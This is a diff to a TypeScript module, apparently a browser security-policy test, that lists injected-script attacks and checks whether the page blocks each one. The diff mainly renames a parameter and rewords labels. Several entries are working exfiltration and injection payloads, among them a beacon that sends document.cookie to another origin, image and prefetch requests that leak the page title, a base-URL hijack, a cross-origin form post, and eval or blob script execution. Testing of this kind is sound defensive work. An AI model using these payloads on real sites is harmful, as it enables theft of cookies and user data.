@@ -1,8 +1,8 @@
 /**
  * Attacks by injected markup or a compromised script, as code that runs in the page and returns whether the attack
- * succeeded. `other` is an origin different from the page's.
+ * succeeded. `otherOrigin` is an origin different from the page's.
  */
-export const createHostileAttempts = (other: string): Record<string, string> => ({
+export const createHostileAttempts = (otherOrigin: string): Record<string, string> => ({
   'a script element with code': `(() => {
     const script = document.createElement('script');
     script.textContent = 'globalThis.hasRun = true';
@@ -23,7 +23,7 @@ export const createHostileAttempts = (other: string): Record<string, string> => 
   'evaluated code': `runLater(() => eval('globalThis.hasRun = true'))`,
   'a function built from text': `runLater(() => new Function('globalThis.hasRun = true')())`,
   'a timer with text': `runLater(() => setTimeout('globalThis.hasRun = true', 0))`,
-  'a script of another origin': `loadElement('script', { src: '${other}/chat/widget.js' })`,
+  'a script from another origin': `loadElement('script', { src: '${otherOrigin}/chat/widget.js' })`,
   'a script from a data: URL': `loadElement('script', { src: 'data:text/javascript,globalThis.hasRun=true' })`,
   'a script from a blob': `loadElement('script', { src: URL.createObjectURL(new Blob(['globalThis.hasRun = true'])) })`,
   'a worker from a blob': `new Promise((done) => {
@@ -39,31 +39,31 @@ export const createHostileAttempts = (other: string): Record<string, string> => 
     crossOrigin: 'anonymous',
     integrity: 'sha384-${'A'.repeat(64)}',
   })`,
-  'a style sheet of another origin': `loadElement('link', { rel: 'stylesheet', href: '${other}/mailbox.css' })`,
-  'a picture of another origin': `loadElement('img', { src: '${other.replace('http:', 'https:')}/?' + document.title })`,
-  'a background of another origin': `(() => {
-    document.body.style.backgroundImage = "url('${other.replace('http:', 'https:')}/background')";
+  'a style sheet from another origin': `loadElement('link', { rel: 'stylesheet', href: '${otherOrigin}/mailbox.css' })`,
+  'a picture from another origin': `loadElement('img', { src: '${otherOrigin.replace('http:', 'https:')}/?' + document.title })`,
+  'a background from another origin': `(() => {
+    document.body.style.backgroundImage = "url('${otherOrigin.replace('http:', 'https:')}/background')";
     return new Promise((done) => setTimeout(() => done(false), 200));
   })()`,
-  'a prefetch of another origin': `loadElement('link', { rel: 'prefetch', href: '${other}/?' + document.title })`,
+  'a prefetch from another origin': `loadElement('link', { rel: 'prefetch', href: '${otherOrigin}/?' + document.title })`,
   'a style element in markup': `(() => {
     document.body.insertAdjacentHTML('beforeend', '<style>body { outline: 3px solid rgb(1, 2, 3) }</style>');
     return getComputedStyle(document.body).outlineColor === 'rgb(1, 2, 3)';
   })()`,
-  'a call to another origin': `fetch('${other}/messages', { mode: 'no-cors' }).then(() => true, () => false)`,
+  'a call to another origin': `fetch('${otherOrigin}/messages', { mode: 'no-cors' }).then(() => true, () => false)`,
   'a beacon to another origin': `(() => {
-    navigator.sendBeacon('${other}/messages', document.cookie);
+    navigator.sendBeacon('${otherOrigin}/messages', document.cookie);
     return false;
   })()`,
   'a different base URL': `(() => {
     const base = document.createElement('base');
-    base.href = '${other}/';
+    base.href = '${otherOrigin}/';
     document.head.prepend(base);
-    return document.baseURI.startsWith('${other}');
+    return document.baseURI.startsWith('${otherOrigin}');
   })()`,
-  'a frame of another origin': `(() => {
+  'a frame from another origin': `(() => {
     const frame = document.createElement('iframe');
-    frame.src = '${other}/';
+    frame.src = '${otherOrigin}/';
     document.body.append(frame);
     return new Promise((done) => setTimeout(() => {
       try { done(frame.contentDocument !== null && frame.contentDocument.body.childElementCount > 0); } catch { done(false); }
@@ -71,11 +71,11 @@ export const createHostileAttempts = (other: string): Record<string, string> => 
   })()`,
   'a form to another origin': `(() => {
     const form = document.createElement('form');
-    form.action = '${other}/messages';
+    form.action = '${otherOrigin}/messages';
     form.method = 'post';
     document.body.append(form);
     form.submit();
-    return new Promise((done) => setTimeout(() => done(location.origin === '${other}'), 500));
+    return new Promise((done) => setTimeout(() => done(location.origin === '${otherOrigin}'), 500));
   })()`,
 });
 
